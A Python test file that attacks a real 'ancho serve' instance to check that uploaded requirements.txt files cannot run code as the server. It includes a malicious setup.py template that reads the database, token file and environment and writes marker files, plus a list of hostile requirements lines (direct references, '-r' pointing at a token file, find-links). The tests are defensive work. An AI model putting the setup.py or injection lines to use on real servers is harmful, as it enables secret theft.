"""A model's requirements.txt cannot run code as the server: attacks against a real ``ancho serve``.

The attacker's package ``evilpkg`` exists only as a source distribution
whose ``setup.py`` writes a marker file, tries to read the server's database,
token file and environment, and writes what it could read into the package it
builds. It is offered three ways: as a direct reference or option in
requirements.txt (refused with a 422 before anything is fetched), from the
server's configured package index with source builds off (refused by the
installer: wheels only), and with source builds on (built, but inside the
sandbox, where none of the server's secrets are visible).

The local package index (PEP 503, on 127.0.0.1) serves its own packages and
sends every other name to PyPI with a redirect, so Ancho's worker packages
(NumPy…) still install.
"""

from __future__ import annotations

import base64
import errno
import hashlib
import http.server
import io
import json
import tarfile
import threading
import zipfile

import pytest

from ..conftest import discard_if_passed, need_service
from .conftest import Server, add_user, detail_text, tar_gz, upload_id, wait_run

pytestmark = pytest.mark.slow

SECRET = "server-secret-value-4711"
TOKEN_TEXT = "ancho-token-TOPSECRET-0xC0FFEE"

SETUP_PY = """
import json, os, sys
found = {"uid": os.getuid(), "env": dict(os.environ)}
for name, path in (("db", %(db)r), ("token", %(token)r)):
    try:
        with open(path, "rb") as fh:
            found[name] = fh.read(200).decode("latin-1")
    except Exception as exc:
        found[name + "_error"] = repr(exc)
for name, path in (("marker", %(marker)r), ("home_write", %(home_write)r)):
    try:
        with open(path, "w") as fh:
            fh.write("setup.py ran here")
        found[name] = "written"
    except Exception as exc:
        found[name + "_error"] = repr(exc)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
found["unshare"] = ctypes.get_errno() if libc.syscall(int(%(unshare)r), 0) == -1 else 0  # (0: it worked)
os.makedirs("evilpkg", exist_ok=True)
with open(os.path.join("evilpkg", "__init__.py"), "w") as fh:
    fh.write("FOUND = " + repr(json.dumps(found)) + "\\n")
from setuptools import setup
setup(name="evilpkg", version="0.1", packages=["evilpkg"])
"""

TINY_MODEL = """
import ancho
import tinypkg


class Tiny(ancho.Model):
    def sequence(self, rng):
        return {"x": tinypkg.VALUE + float(rng.random())}
"""

EVIL_MODEL = """
import ancho
import evilpkg


class Evil(ancho.Model):
    def sequence(self, rng):
        return {"x": float(rng.random())}
"""

PLAIN_MODEL = """
import ancho


class Plain(ancho.Model):
    def sequence(self, rng):
        return {"x": float(rng.random())}
"""


def _syscall_number(name: str) -> int:
    import pyseccomp

    return int(pyseccomp.resolve_syscall(pyseccomp.system_arch(), name))


# -- packages and a package index, built here -------------------------------------------------
def evil_sdist(paths: dict[str, str]) -> bytes:
    """``evilpkg-0.1.tar.gz``: a setup.py that reports what it can read and tries to write ``paths['marker']``."""
    paths = {"unshare": str(_syscall_number("unshare")), **paths}
    buf = io.BytesIO()
    files = {
        "evilpkg-0.1/setup.py": SETUP_PY % paths,
        "evilpkg-0.1/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 0.1\n",
    }
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o644, 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def tiny_wheel(name: str = "tinypkg", version: str = "1.0", value: float = 41.0) -> tuple[str, bytes]:
    """A pure-Python wheel made by hand: (file name, bytes)."""
    dist = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": f"VALUE = {value!r}\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: ancho-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(text.encode())}")
    files[f"{dist}/RECORD"] = "\n".join([*record, f"{dist}/RECORD,,"]) + "\n"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, text in files.items():
            zf.writestr(zipfile.ZipInfo(path, (2024, 1, 1, 0, 0, 0)), text)
    return f"{name}-{version}-py3-none-any.whl", buf.getvalue()


class PackageServer:
    """A PEP 503 index on 127.0.0.1 (``/simple/NAME/``) for ``packages``; other names are redirected to PyPI.

    Files are also served at ``/files/FILE`` (for direct references). ``requests`` records every path asked for.
    """

    def __init__(self, packages: dict[str, dict[str, bytes]]):
        self.packages = packages
        self.requests: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_HEAD(self):
                self.do_GET(head=True)

            def do_GET(self, head: bool = False):
                outer.requests.append(self.path)
                parts = [p for p in self.path.split("?")[0].split("/") if p]
                if len(parts) == 2 and parts[0] == "simple":
                    name = parts[1]
                    if name not in outer.packages:
                        self.send_response(302)
                        self.send_header("Location", f"https://pypi.org/simple/{name}/")
                        self.end_headers()
                        return
                    links = "".join(
                        f'<a href="/files/{f}#sha256={hashlib.sha256(d).hexdigest()}">{f}</a>\n'
                        for f, d in outer.packages[name].items()
                    )
                    self._send(200, f"<!DOCTYPE html><html><body>\n{links}</body></html>\n".encode(), "text/html")
                    return
                if len(parts) == 2 and parts[0] == "files":
                    for files in outer.packages.values():
                        if parts[1] in files:
                            self._send(
                                200, b"" if head else files[parts[1]], "application/octet-stream", len(files[parts[1]])
                            )
                            return
                self._send(404, b"not found", "text/plain")

            def _send(self, code, body, ctype, length=None):
                self.send_response(code)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body) if length is None else length))
                self.end_headers()
                self.wfile.write(body)

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.index = f"{self.url}/simple"

    def asked_for(self, word: str) -> list[str]:
        return [p for p in self.requests if word in p]

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


# -- fixtures ---------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def world(request, tmp_path_factory):
    """Folders, the evil package and the index that serves it (and tinypkg, as a wheel)."""
    root = tmp_path_factory.mktemp("reqsec")
    discard_if_passed(request, root)  # the servers' environments and uv's cache: ~1.2 GB
    outside = root / "outside"
    outside.mkdir()
    token_file = outside / "token.txt"
    token_file.write_text(TOKEN_TEXT + "\n")
    w = {
        "root": root,
        "outside": outside,
        "token_file": token_file,
        "marker": outside / "marker",
        "cache": root / "uv-cache",
    }
    w["cache"].mkdir()
    return w


def start_server(world, name: str, index: PackageServer, **settings: str) -> Server:
    home = world["root"] / name / "home"
    home.mkdir(parents=True)
    token = add_user(home, "mallory")
    env = {
        "ANCHO_PACKAGE_INDEX": index.index,
        "ANCHO_TEST_SECRET": SECRET,
        "PIP_FIND_LINKS": str(world["outside"]),
        "UV_CACHE_DIR": str(world["cache"]),
        **settings,
    }
    srv = Server(home, env, name=f"{name}-server").start()
    srv.token = token
    return srv


@pytest.fixture(scope="module")
def index(world):
    paths = {"db": "", "token": str(world["token_file"]), "marker": str(world["marker"]), "home_write": ""}
    # the wheels-only server never builds it; the build test makes its own with that server's paths
    wheel_name, wheel = tiny_wheel()
    idx = PackageServer({"tinypkg": {wheel_name: wheel}, "evilpkg": {"evilpkg-0.1.tar.gz": evil_sdist(paths)}})
    yield idx
    idx.close()


@pytest.fixture(scope="module")
def wheels_server(world, index):
    srv = start_server(world, "wheels", index)
    yield srv
    srv.kill()


@pytest.fixture(scope="module")
def mallory(wheels_server):
    with wheels_server.client(wheels_server.token, timeout=600) as c:
        yield c


def submit_with(client, files: dict[str, str], entry: str | None = None, sequences: int = 20):
    u = upload_id(client, tar_gz(files))
    model = {"upload": u, **({"entry": entry} if entry else {})}
    return client.post("/runs", json={"model": model, "sequences": sequences, "seed": 1})


# -- requirements.txt may name packages only --------------------------------------------------
ATTACKS = {
    "direct_reference_http": "evilpkg @ {url}/files/evilpkg-0.1.tar.gz",
    "direct_reference_file": "evilpkg @ file://{outside}/evilpkg-0.1.tar.gz",
    "requirement_option": "--requirement {token_file}",
    "short_requirement_option": "-r{token_file}",
    "constraint_option": "--constraint {token_file}",
    "index_option_without_space": "-i{url}/simple",
    "no_binary": "--no-binary :all:",
    "editable": "-e file://{outside}/evilpkg-src",
    "bare_url": "{url}/files/evilpkg-0.1.tar.gz",
    "find_links": "--find-links={url}/files/",
    "continuation": "humanize \\",
}


@pytest.mark.parametrize("filename", ["requirements.txt", "pip-requirements.txt"])
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_requirements_attacks_are_refused_before_anything_is_fetched(mallory, world, index, attack, filename):
    (world["outside"] / "evilpkg-0.1.tar.gz").write_bytes(index.packages["evilpkg"]["evilpkg-0.1.tar.gz"])
    (world["outside"] / "evilpkg-src").mkdir(exist_ok=True)
    line = ATTACKS[attack].format(url=index.url, outside=world["outside"], token_file=world["token_file"])
    before = len(index.requests)
    r = submit_with(mallory, {"model.py": PLAIN_MODEL, filename: f"# our packages\nnumpy\n{line}\n"})
    assert r.status_code == 422, r.text
    text = detail_text(r)
    assert f"{filename} line 3" in text and "may list only one package per line" in text, text
    assert TOKEN_TEXT.lower() not in text and TOKEN_TEXT not in r.text
    assert index.requests[before:] == []  # nothing was fetched from the attacker's server
    assert not world["marker"].exists()


def test_both_requirements_files_are_refused(mallory):
    r = submit_with(
        mallory, {"model.py": PLAIN_MODEL, "requirements.txt": "numpy\n", "pip-requirements.txt": "numpy\n"}
    )
    assert r.status_code == 422 and "requirements.txt and pip-requirements.txt" in detail_text(r), r.text


# -- packages from the configured index: wheels only ------------------------------------------
def test_a_wheel_from_the_configured_index_installs_and_the_model_imports_it(mallory, index):
    r = submit_with(
        mallory, {"model.py": TINY_MODEL, "requirements.txt": "TinyPkg>=1.0  # a wheel on the index\n"}, sequences=50
    )
    assert r.status_code == 201, (r.text, index.requests)
    view = wait_run(mallory, r.json()["id"], timeout=600)
    assert view["status"] == "succeeded", view
    summary = mallory.get(f"/runs/{r.json()['id']}/summary").json()
    assert 41 <= summary["outputs"]["x"]["min"] and summary["outputs"]["x"]["max"] <= 42
    assert index.asked_for("/simple/tinypkg/") and index.asked_for("/files/tinypkg-1.0-py3-none-any.whl")


def test_an_sdist_only_package_is_refused_when_source_builds_are_off(mallory, world, index):
    r = submit_with(mallory, {"model.py": EVIL_MODEL, "requirements.txt": "evilpkg==0.1\n"})
    assert r.status_code == 422, r.text
    text = detail_text(r)
    assert "installing requirements.txt failed" in text and "evilpkg" in text and "only pre-built wheels" in text, text
    assert index.asked_for("/simple/evilpkg/")  # it did look on the configured index
    assert not world["marker"].exists()
    assert SECRET not in r.text


# -- source builds allowed: they run inside the sandbox ---------------------------------------
def test_a_source_build_runs_inside_the_sandbox_and_sees_none_of_the_servers_secrets(world):
    from ancho.isolation import sandbox_problem

    problem = sandbox_problem()
    if problem:
        need_service("bubblewrap", problem)
    home = world["root"] / "builds" / "home"
    paths = {
        "db": str(home / "server.db"),
        "token": str(world["token_file"]),
        "marker": str(world["marker"]),
        "home_write": str(home / "pwned-by-build"),
    }
    wheel_name, wheel = tiny_wheel()
    index = PackageServer({"tinypkg": {wheel_name: wheel}, "evilpkg": {"evilpkg-0.1.tar.gz": evil_sdist(paths)}})
    srv = start_server(world, "builds", index, ANCHO_ALLOW_SOURCE_BUILDS="true")
    try:
        assert (home / "server.db").is_file()
        with srv.client(srv.token, timeout=600) as c:
            r = submit_with(c, {"model.py": EVIL_MODEL, "requirements.txt": "evilpkg==0.1\n"})
            assert r.status_code == 201, r.text
            assert wait_run(c, r.json()["id"], timeout=600)["status"] == "succeeded"
        built = list((home / "envs").glob("*/lib/python3*/site-packages/evilpkg/__init__.py"))
        assert len(built) == 1, list((home / "envs").iterdir())
        namespace: dict = {}
        exec(built[0].read_text(), namespace)
        found = json.loads(namespace["FOUND"])
        assert found["uid"] == 65534  # the sandbox's user, not the server's
        assert found["unshare"] == errno.EPERM  # the build runs under the sandbox's system-call filter
        assert "db" not in found and "db_error" in found, found
        assert "token" not in found and "token_error" in found, found
        assert "marker" not in found and not world["marker"].exists(), found
        assert "home_write" not in found and not (home / "pwned-by-build").exists(), found
        assert SECRET not in json.dumps(found) and "ANCHO_TEST_SECRET" not in found["env"]
        assert "PIP_FIND_LINKS" not in found["env"] and not any(
            k.startswith("ANCHO_") and k != "ANCHO_SANDBOX" for k in found["env"]
        ), found["env"]
    finally:
        srv.kill()
        index.close()
